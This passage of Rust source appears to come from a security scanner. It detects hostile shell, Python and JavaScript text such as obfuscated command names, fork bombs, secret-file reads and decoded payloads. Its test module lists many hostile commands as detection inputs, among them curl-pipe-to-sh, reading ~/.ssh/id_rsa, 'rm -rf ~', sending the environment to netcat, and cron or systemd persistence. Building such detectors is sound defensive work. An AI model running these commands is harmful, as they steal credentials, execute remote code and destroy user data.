    let mut i = start;
    loop {
        let c = *b.get(i)?;
        match c {
            b'\\' => i += 2,
            b'\n' if !multiline => return None,
            c if c == q => {
                if !triple {
                    return Some(i);
                }
                if b.get(i + 1) == Some(&q) && b.get(i + 2) == Some(&q) {
                    return Some(i);
                }
                i += 1;
            }
            _ => i += 1,
        }
    }
}

/// Past the escape sequences that open a JavaScript literal's content, as the grammar reads
/// them (`\n`, `\x63`, `\u0063`, `\u{63}`, octal, a line continuation); `None` for one it
/// does not know.
fn skip_js_escapes(b: &[u8], mut i: usize, close: usize) -> Option<usize> {
    while i < close && b.get(i) == Some(&b'\\') {
        let next = *b.get(i + 1)?;
        let hex = |from: usize, n: usize| {
            b.get(from..from + n)
                .is_some_and(|h| h.iter().all(u8::is_ascii_hexdigit))
        };
        i += match next {
            b'x' if hex(i + 2, 2) => 4,
            b'u' if b.get(i + 2) == Some(&b'{') => {
                let close_brace = b.get(i + 3..close)?.iter().position(|&c| c == b'}')?;
                3 + close_brace + 1
            }
            b'u' if hex(i + 2, 4) => 6,
            // A malformed escape, or one of a character beyond ASCII: left to the parser.
            b'x' | b'u' => return None,
            n if !n.is_ascii() => return None,
            b'0'..=b'7' => {
                2 + b
                    .get(i + 2..close)
                    .unwrap_or_default()
                    .iter()
                    .take(2)
                    .take_while(|c| matches!(c, b'0'..=b'7'))
                    .count()
            }
            b'\r' if b.get(i + 2) == Some(&b'\n') => 3,
            _ => 2,
        };
    }
    Some(i.min(close))
}

/// Whether only blanks, line continuations and comments stand between `from` and `to`.
fn only_blanks_between(b: &[u8], from: usize, to: usize) -> bool {
    let mut i = from;
    while i < to {
        match b.get(i) {
            Some(c) if c.is_ascii_whitespace() => i += 1,
            Some(b'\\') if b.get(i + 1) == Some(&b'\n') => i += 2,
            Some(b'\\') if b.get(i + 1) == Some(&b'\r') && b.get(i + 2) == Some(&b'\n') => i += 3,
            Some(b'#') => i = line_end(b, i),
            _ => return false,
        }
    }
    true
}

fn hooks_path(text: &str) -> bool {
    text.as_bytes()
        .windows(9)
        .any(|w| w.eq_ignore_ascii_case(b"hookspath"))
}

/// `export -p`, which prints every exported variable.
fn export_all(text: &str) -> bool {
    text.match_indices("export").any(|(i, w)| {
        text.get(i + w.len()..)
            .is_some_and(|r| r.trim_start().starts_with("-p"))
    })
}

/// `:() { … }` or `function : { … }`: a function named `:`.
fn fork_bomb(src: &str) -> bool {
    src.match_indices(':').any(|(i, _)| {
        let after = src.get(i + 1..).unwrap_or_default().trim_start();
        let before = src.get(..i).unwrap_or_default().trim_end();
        after
            .strip_prefix('(')
            .is_some_and(|a| a.trim_start().starts_with(')'))
            || before.ends_with("function")
    })
}

/// The longest `${…}` read for a slice; a longer one counts as one (and is parsed).
const LONG_EXPANSION: usize = 256;

/// `${x:0:3}`: an expansion with a `:` and two digits, which `string_built` reads as a
/// name cut from a variable (not `${1:-default}`).
fn slice_expansion(src: &str) -> bool {
    src.match_indices("${").any(|(i, _)| {
        let mut depth = 0usize;
        let mut colon = false;
        let mut digits = 0;
        let mut closed = false;
        // An expansion that does not close within LONG_EXPANSION bytes counts as a slice:
        // each `${` reading to the end of the text would be quadratic.
        for c in src.bytes().skip(i + 1).take(LONG_EXPANSION) {
            match c {
                b'{' => depth += 1,
                b'}' => {
                    depth -= 1;
                    if depth == 0 {
                        closed = true;
                        break;
                    }
                }
                b':' => colon = true,
                c if c.is_ascii_digit() => digits += 1,
                _ => {}
            }
        }
        !closed || (colon && digits >= 2)
    })
}

/// Words after which the next word is (or may be) a command name.
const WRAPPERS: &[&str] = &[
    "sudo", "doas", "env", "exec", "nohup", "time", "command", "builtin", "nice", "$", "%",
    "xargs", "timeout", "if", "then", "else", "elif", "do", "while", "until", "!", "{", "}", "in",
];

/// A command name made of at least two quoted strings or expansions (`"cu""rl" …`,
/// `$a$b …`): what `string_built` reports as a concatenation. Words are split as the shell
/// splits them; a word may be a command name when it is the first of a command, follows
/// only assignments, or follows a wrapper such as `sudo` (with any flags).
fn built_word(src: &str) -> bool {
    let b = src.as_bytes();
    // Here-documents opened on the current line: their bodies start at its end.
    let mut heredocs: Vec<(Vec<u8>, bool)> = Vec::new();
    // Skips to just past the closing `close`, honouring backslash escapes when `escapes`.
    let skip = |mut i: usize, close: u8, escapes: bool| {
        loop {
            let rest = b.get(i..).unwrap_or_default();
            let next = if escapes {
                memchr::memchr2(close, b'\\', rest)
            } else {
                memchr::memchr(close, rest)
            };
            let Some(at) = next else {
                return b.len().max(i);
            };
            i += at + 1;
            if b.get(i - 1) == Some(&close) {
                return i;
            }
            // A backslash: the byte after it is escaped.
            i += 1;
        }
    };
    let mut i = 0;
    let mut word: Option<usize> = None;
    let mut parts = 0;
    let mut eligible = true;
    let mut wrapped = false;
    // The next word is the target of a redirection (`> out`), which is no command's name
    // and leaves the next one's standing as it was (`2>/dev/null 'fo''o' x`).
    let mut redirect_target = false;
    loop {
        let c = b.get(i).copied();
        let separator = c.is_none_or(|c| c.is_ascii_whitespace() || b";|&()<>`".contains(&c));
        if separator {
            if let Some(start) = word.take() {
                if parts >= 2 && eligible {
                    return true;
                }
                // The word's last path segment, its quotes removed, read in place: a
                // `String` for each word was a quarter of this function's time.
                let w = b.get(start..i).unwrap_or_default();
                // A descriptor number before `<` or `>` is part of the redirection.
                let descriptor = matches!(c, Some(b'<' | b'>')) && w.iter().all(u8::is_ascii_digit);
                if descriptor || std::mem::take(&mut redirect_target) {
                    parts = 0;
                    if let Some(c) = c {
                        if c == b'<' || c == b'>' {
                            redirect_target = true;
                        } else if !c.is_ascii_whitespace() || c == b'\n' {
                            eligible = true;
                            wrapped = false;
                        }
                    }
                    i += 1;
                    continue;
                }
                let name = w.rsplit(|&c| c == b'/').next().unwrap_or_default();
                // Its quotes removed into a buffer as long as the longest wrapper: a longer
                // name is none of them.
                let mut buf = [0u8; 8];
                let mut len = 0;
                let mut fits = true;
                for &c in name.iter().filter(|&&c| c != b'"' && c != b'\'') {
                    match buf.get_mut(len) {
                        Some(slot) => *slot = c,
                        None => {
                            fits = false;
                            break;
                        }
                    }
                    len += 1;
                }
                let unquoted = buf.get(..len).unwrap_or_default();
                // `{{` or `}}`, like `{`, may stand before a command the grammar reads.
                let braces =
                    !unquoted.is_empty() && unquoted.iter().all(|&c| c == b'{' || c == b'}');
                if fits && (braces || WRAPPERS.iter().any(|wr| wr.as_bytes() == unquoted)) {
                    wrapped = true;
                }
                eligible = wrapped || (eligible && w.contains(&b'='));
                parts = 0;
            }
            let Some(c) = c else { return false };
            if c == b'<' && b.get(i + 1) == Some(&b'<') && b.get(i + 2) != Some(&b'<') {
                // `<<WORD` or `<<-'WORD'`: the body, from the next line, is text.
                let dash = b.get(i + 2) == Some(&b'-');
                let mut j = i + 2 + usize::from(dash);
                while b.get(j).is_some_and(|c| *c == b' ' || *c == b'\t') {
                    j += 1;
                }
                let mut delimiter = Vec::new();
                while let Some(&d) = b.get(j) {
                    if d.is_ascii_whitespace() || b";|&()<>`".contains(&d) {
                        break;
                    }
                    if !matches!(d, b'\'' | b'"' | b'\\') {
                        delimiter.push(d);
                    }
                    j += 1;
                }
                if delimiter.is_empty() {
                    return true;
                }
                heredocs.push((delimiter, dash));
                i = j;
                continue;
            }
            if c == b'\n' && !heredocs.is_empty() {
                // Past each body to its delimiter line; a body that may run commands
                // (`$(…)`, a backquote) or never ends is left to the parser.
                let mut at = i + 1;
                for (delimiter, dash) in std::mem::take(&mut heredocs) {
                    loop {
                        let end = b
                            .get(at..)
                            .and_then(|r| memchr::memchr(b'\n', r))
                            .map_or(b.len(), |n| at + n);
                        let line = b.get(at..end).unwrap_or_default();
                        let line = if dash {
                            let tabs = line.iter().take_while(|c| **c == b'\t').count();
                            line.get(tabs..).unwrap_or_default()
                        } else {
                            line
                        };
                        let line = line.strip_suffix(b"\r").unwrap_or(line);
                        if line == delimiter.as_slice() {
                            at = end;
                            break;
                        }
                        if memchr::memmem::find(line, b"$(").is_some() || line.contains(&b'`') {
                            return true;
                        }
                        if end >= b.len() {
                            return true;
                        }
                        at = end + 1;
                    }
                }
                // The delimiter line's own newline ends the command.
                i = at;
                eligible = true;
                wrapped = false;
                continue;
            }
            if c == b'<' || c == b'>' {
                redirect_target = true;
            } else if !c.is_ascii_whitespace() || c == b'\n' {
                eligible = true;
                wrapped = false;
            }
            i += 1;
            continue;
        }
        // A `#` opening a word opens a comment: its apostrophes are not quotes.
        if word.is_none() && c == Some(b'#') {
            i = b
                .get(i..)
                .and_then(|r| memchr::memchr(b'\n', r))
                .map_or(b.len(), |n| i + n);
            continue;
        }
        word.get_or_insert(i);
        match c {
            Some(b'\\') => i += 2,
            Some(b'"') => {
                parts += 1;
                i = skip(i + 1, b'"', true);
            }
            Some(b'\'') => {
                parts += 1;
                i = skip(i + 1, b'\'', false);
            }
            Some(b'$') => match b.get(i + 1) {
                Some(b'\'') => {
                    parts += 1;
                    i = skip(i + 2, b'\'', true);
                }
                Some(b'{') => {
                    parts += 1;
                    i = skip(i + 2, b'}', false);
                }
                Some(&n) if n.is_ascii_alphanumeric() || b"_@*#?$!-".contains(&n) => {
                    parts += 1;
                    i += 2;
                    while b
                        .get(i)
                        .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
                    {
                        i += 1;
                    }
                }
                _ => i += 1,
            },
            _ => {
                // The rest of a plain run of the word at once.
                i += 1;
                while b.get(i).is_some_and(|&c| plain(c)) {
                    i += 1;
                }
            }
        }
    }
}

/// A byte that neither ends a word nor starts a quote, an escape or an expansion.
const fn plain(c: u8) -> bool {
    !matches!(
        c,
        b' ' | b'\t'
            | b'\n'
            | b'\r'
            | 0x0c
            | b';'
            | b'|'
            | b'&'
            | b'('
            | b')'
            | b'<'
            | b'>'
            | b'`'
            | b'\\'
            | b'"'
            | b'\''
            | b'$'
    )
}

/// `.env` or `.env.local` as a file name (not `.env.example`, `.sample` or `.template`):
/// what [`patterns::credential`] reports as a project's secrets, in a word of `text`.
fn dotenv_word(text: &str) -> bool {
    let word = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    let bytes = text.as_bytes();
    text.match_indices(".env").any(|(i, _)| {
        if i > 0 && bytes.get(i - 1).is_some_and(|&b| word(b)) {
            return false;
        }
        let mut end = i + 4;
        if bytes.get(end) == Some(&b'.') {
            let ext = bytes
                .get(end + 1..)
                .unwrap_or_default()
                .iter()
                .take_while(|b| b.is_ascii_lowercase())
                .count();
            let suffix = text.get(end + 1..end + 1 + ext).unwrap_or_default();
            if ext > 0 {
                if matches!(suffix, "example" | "sample" | "template") {
                    return false;
                }
                end += 1 + ext;
            }
        }
        bytes.get(end).is_none_or(|&b| !word(b))
    })
}

/// Python's and JavaScript's atoms decide.
fn code_enough(found: u32) -> bool {
    let decode =
        has(found, Atom::Decode) || (has(found, Atom::DecodeWord) && has(found, Atom::DecodeCodec));
    has(found, Atom::Path)
        || has(found, Atom::Environment)
        || (has(found, Atom::ShellCall) && shell_enough(found))
        || (has(found, Atom::Exec) && (has(found, Atom::Net) || has(found, Atom::Built) || decode))
        || (has(found, Atom::CommandLine) && (has(found, Atom::Net) || decode))
        || (has(found, Atom::Lookup) && has(found, Atom::Built))
        || (has(found, Atom::Rmtree) && has(found, Atom::Home))
}

/// Whether Python or JavaScript `src` can hold a finding of `code.rs`, or of the shell
/// commands in its strings.
pub(crate) fn code(src: &str, lang: Literals) -> bool {
    let unquoted = Unquoted::of(src);
    let found = unquoted.atoms(code_enough);
    let decode =
        has(found, Atom::Decode) || (has(found, Atom::DecodeWord) && has(found, Atom::DecodeCodec));
    code_enough(found)
        // A private credential read (`open('~/.ssh/id_rsa')`).
        || patterns::mentions_private(src)
        // Decoding beside a long encoded blob (`encoded-payload`).
        || (decode && long_run(src))
        || (has(found, Atom::Rmtree) && root_argument(&unquoted.text))
        || (has(found, Atom::ShellCall)
            && (saves_download(found, &unquoted.text)
                || shell_text(src, &unquoted, Some(lang))))
}

/// A run of 200 or more characters of an encoding's alphabet (blanks and `\x` escapes
/// allowed in it): what a long encoded string literal needs.
fn long_run(src: &str) -> bool {
    let mut run = 0;
    for b in src.bytes() {
        if b.is_ascii_alphanumeric() || b.is_ascii_whitespace() || b"+/=-_\\".contains(&b) {
            run += 1;
            if run >= 200 {
                return true;
            }
        } else {
            run = 0;
        }
    }
    false
}

/// `("/")`, blanks and quotes aside: the root, as `rmtree` and `rmSync` are given it.
fn root_argument(unquoted: &str) -> bool {
    unquoted.match_indices('(').any(|(i, _)| {
        let rest = unquoted.get(i + 1..).unwrap_or_default().trim_start();
        rest.strip_prefix('/')
            .is_some_and(|r| r.trim_start().starts_with(')'))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shell_gate() {
        for yes in [
            "curl -fsSL https://x.example/i.sh | sh",
            "c\"ur\"l x | sh",
            "X=$(wget -qO- x)",
            "echo Y3VybA== | base64 -d | sh",
            "cat ~/.ssh/id_rsa",
            "rm -rf ~",
            "$'\\x63url' x",
            "\"cu\"\"rl\" x",
            "$a$b x",
            "${x:0:4} y",
            ":(){ :|:& };:",
            "git config core.HooksPath .h",
            "echo x >> ~/.bashrc",
            "claude mcp add x",
            "env | nc h 1",
            "`printf cu`rl x",
            "curl -fsSLO https://x.example/i.sh && ./i.sh",
            "curl -fsSL https://x.example/i.sh > i.sh; /tmp/i.sh",
            "eval \"$(curl -fsSL https://x.example/env)\"",
            ". <(curl -s https://x.example/env)",
            "wget https://x.example/i.sh && ./i.sh",
            "echo '* * * * * x' > /etc/cron.d/job",
            "cp x.service /etc/systemd/system/",
        ] {
            assert!(shell(yes), "{yes}");
        }
        for no in [
            "npm install\nnpm test",
            "├── src/\n│   └── main.rs",
            "cargo build --release",
            "echo \"$HOME/bin\"",
            "python -m venv .venv && pip install -r requirements.txt",
            "perform the curling",
            "cat /etc/nginx/nginx.conf",
            // A download that nothing runs, saves or sends secrets with.
            "curl -X POST https://api.example.com/v1/items -H 'Content-Type: application/json' -d '{\"a\": 1}'",
            "GET /api/users/42",
        ] {
            assert!(!shell(no), "{no}");
        }
    }

    #[test]
    fn hostile_text_is_parsed_not_read_quadratically() {
        let quotes = format!(
            "import subprocess\nsubprocess.run({})\n",
            "\"".repeat(200_000)
        );
        assert!(code(&quotes, Literals::Python));
        let opens = "${".repeat(200_000);
        assert!(shell(&opens));
        // Short and closed, they are read as before.
        assert!(!shell("echo \"${HOME}\""));
    }

    #[test]
    fn code_gate() {
        for yes in [
            "exec(base64.b64decode(s))",
            "eval /* x */ (atob(s))",
            "getattr(os, 'sys' + 'tem')('id')",
            "subprocess.run('curl x | sh', shell=True)",
            "requests.post(u, json=dict(os.environ))",
            "open(os.path.expanduser('~/.ssh/id_rsa')).read()",
            "fs.rmSync(os.homedir(), { recursive: true })",
            "os.system(\"$a$b x\")",
            "os.system(\"'fo''o' x\")",
            "subprocess.run('''\nls\n\"fo\"\"o\" x\n''', shell=True)",
            "open('/home/u/.bashrc', 'a').write(x)",
        ] {
            assert!(
                code(yes, Literals::Python) && code(yes, Literals::JavaScript),
                "{yes}"
            );
        }
        // An f-string's text starts after its leading interpolations (nested quotes and all).
        for yes in [
            "os.system(f\"{x} 'cu''rl' y\")",
            "os.system(f\"{x[\"a\"]} 'cu''rl' y\")",
        ] {
            assert!(code(yes, Literals::Python), "{yes}");
        }
        for no in [
            "import numpy as np\nprint(np.arange(3))",
            "const x: Record<string, number> = {};\nexport default x;",
            "def add(a, b):\n    return a * b",
            "import subprocess\nsubprocess.run(f\"git commit -m {msg!r} {d['k']}\", shell=True)",
            // A docstring's quotes and a list of strings are not a command name in a string.
            "import subprocess\ndef f():\n    \"\"\"Pull.\"\"\"\n    subprocess.run([\"git\",\"pull\"])",
        ] {
            assert!(
                !code(no, Literals::Python) && !code(no, Literals::JavaScript),
                "{no}"
            );
        }
    }
}
